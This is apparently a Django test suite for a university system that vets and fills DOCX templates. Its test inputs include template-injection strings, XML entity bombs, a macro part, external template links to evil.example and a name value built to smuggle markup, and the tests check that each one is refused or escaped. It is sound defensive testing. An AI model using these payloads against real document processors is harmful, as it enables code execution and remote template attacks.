"""Templates: what the office may upload, and what a student downloads."""

import time
import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from kabinet.audit.models import Event
from kabinet.portfolio.models import DocumentTemplate, DocumentType
from kabinet.portfolio.prefilled.actions import add_template
from kabinet.portfolio.prefilled.filling import PLACEHOLDERS
from kabinet.portfolio.prefilled.inspecting import TemplateRefused, placeholders
from kabinet.portfolio.presets import documents

KNOWN = frozenset(PLACEHOLDERS)
NBSP = "\N{NO-BREAK SPACE}"


def docx(*lines: str, footer: str = "") -> bytes:
    page = Document()
    for line in lines:
        page.add_paragraph(line)
    page.sections[0].footer.paragraphs[0].text = footer
    out = BytesIO()
    page.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The same package with one more part, or another one in its place."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, content)
    return out.getvalue()


def words(data: bytes) -> str:
    page = Document(BytesIO(data))
    lines = [each.text for each in page.paragraphs]
    cells = [cell.text for table in page.tables for row in table.rows for cell in row.cells]
    lines += [each.text for each in page.sections[0].footer.paragraphs]
    return "\n".join(lines + cells).replace(NBSP, " ")


def refusal(data: bytes) -> tuple[str, str]:
    with pytest.raises(TemplateRefused) as caught:
        placeholders(data, KNOWN)
    return caught.value.key, caught.value.name


@pytest.mark.parametrize(
    "built",
    [documents.individual_plan, documents.research_report, documents.practice_report],
)
def test_the_shipped_templates_know_all_their_placeholders(built):
    found = placeholders(built(), KNOWN)
    assert {"name", "topic", "speciality", "supervisor", "department", "year"} <= set(found)


def test_a_student_downloads_the_own_facts(study, client_of, ilya):
    template = DocumentTemplate.objects.get(
        document_type__code="practice", document_type__university=study.university
    )
    address = reverse("portfolio:filled_template", args=[study.pk, template.pk])
    answer = client_of(ilya).get(address)
    assert answer["Content-Disposition"].startswith("attachment;")
    said = words(answer.content)
    for fact in (
        "Отчёт о практике, 2026/27 учебный год",
        "Петров Илья Сергеевич",
        "2.3.1. Системный анализ",
        "Автоматизированные системы",
        "Очная, 2-й курс",
        "Орлова Наталья Викторовна",
        "Модели & методы <учёта> рисков",
        "Петров И. С., 2026/27",
        "23 ноября 2026",
    ):
        assert said.count(fact) >= 1, fact
    assert ("{{" in said, Event.objects.filter(verb="template.filled").count()) == (False, 0)


def test_the_offices_copy_is_an_event(study, client_of, office):
    template = DocumentTemplate.objects.filter(document_type__university=study.university).first()
    client_of(office).get(reverse("portfolio:filled_template", args=[study.pk, template.pk]))
    assert Event.objects.get(verb="template.filled").person_id == str(study.person.pk)


def test_an_unknown_placeholder_is_refused_by_name():
    assert refusal(docx("{{ name }}", footer="{{ salary }}")) == ("unknown", "salary")


@pytest.mark.parametrize(
    "line",
    [
        "{% for x in range(9) %}x{% endfor %}",
        "{{ name.__class__ }}",
        "{{ name|upper }}",
        "{{ 7 * 7 }}",
        "{{ name() }}",
        "{{ name",
    ],
)
def test_nothing_but_names_is_let_in(line):
    assert refusal(docx(line))[0] == "not_placeholder"


def test_bombs_are_refused():
    entity = b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    wide = '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'.encode("utf-16")
    huge = b"<x>" + bytes(7 * 1024 * 1024) + b"</x>"
    found = [
        refusal(with_part(docx("а"), f"word/{name}.xml", content))[0]
        for name, content in (("styles", entity), ("more", wide), ("big", huge))
    ]
    assert found == ["bomb"] * 3


def test_macros_and_outside_parts_are_refused():
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert refusal(with_part(docx("а"), "word/vbaProject.bin", b"x"))[0] == "macros"
    assert refusal(with_part(docx("а"), "word/_rels/settings.xml.rels", outside))[0] == "outside"


@pytest.mark.parametrize(
    "target",
    [
        b"http://evil.example/t.dotm?x=&gt;&amp;y=>",  # a «>» does not end the element
        b"http://evil.example/relationships/hyperlink",  # the type says what it is, not the address
    ],
)
def test_no_spelling_hides_a_part_that_lies_outside(target):
    links = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Target="' + target + b'" TargetMode="External" '
        b'Type="http://x/relationships/attachedTemplate"/></Relationships>'
    )
    assert refusal(with_part(docx("а"), "word/_rels/settings.xml.rels", links))[0] == "outside"


def test_a_part_that_never_ends_its_elements_takes_no_minutes():
    began = time.process_time()
    never = with_part(docx("а"), "word/_rels/x.xml.rels", b"<Relationship " * 20_000)
    assert refusal(never)[0] == "not_docx"
    assert time.process_time() - began < 2


@pytest.mark.parametrize(("data", "key"), [(b"", "empty"), (b"%PDF-1.4", "not_docx")])
def test_what_is_no_docx_is_refused(data, key):
    assert refusal(data)[0] == key


def test_the_office_uploads_a_new_version_and_takes_it_back(study, client_of, office, ilya):
    client, address = client_of(office), reverse("portfolio:office_templates")
    kind = DocumentType.objects.get(university=study.university, code="plan")
    good = SimpleUploadedFile("план.docx", docx("Тема: {{ topic }}"))
    assert client.post(address, {"type": kind.pk, "file": good}).status_code == 302
    newest = DocumentTemplate.objects.get(document_type=kind, number=2)
    filled = reverse("portfolio:filled_template", args=[study.pk, newest.pk])
    said = words(client_of(ilya).get(filled).content)
    assert said.strip() == "Тема: Модели & методы <учёта> рисков"
    bad = SimpleUploadedFile("план.docx", docx("{{ wage }}"))
    answer = client.post(address, {"type": kind.pk, "file": bad})
    assert (answer.status_code, "wage" in answer.content.decode()) == (422, True)
    client.post(address, {"withdraw": newest.pk})
    assert client_of(ilya).get(filled).status_code == 404


def test_another_university_cannot_touch_the_templates(study, client_of, other_office, orlova):
    template = DocumentTemplate.objects.filter(document_type__university=study.university).first()
    kind = template.document_type.pk
    client, address = client_of(other_office), reverse("portfolio:office_templates")
    assert client.post(address, {"withdraw": template.pk}).status_code == 404
    assert client.post(address, {"type": kind}).status_code == 404
    assert client.get(reverse("portfolio:template", args=[template.pk])).status_code == 404
    assert client_of(orlova).get(address).status_code == 404


def test_a_value_cannot_smuggle_markup_in(study, client_of, ilya):
    study.person.given_name = "Илья</w:t>{{ topic }}"
    study.person.save()
    kind = DocumentType.objects.get(university=study.university, code="exam")
    made = add_template(actor=None, document_type=kind, name="т.docx", data=docx("{{ name }}"))
    address = reverse("portfolio:filled_template", args=[study.pk, made.pk])
    said = words(client_of(ilya).get(address).content)
    assert said.strip() == "Петров Илья</w:t>{{ topic }} Сергеевич"
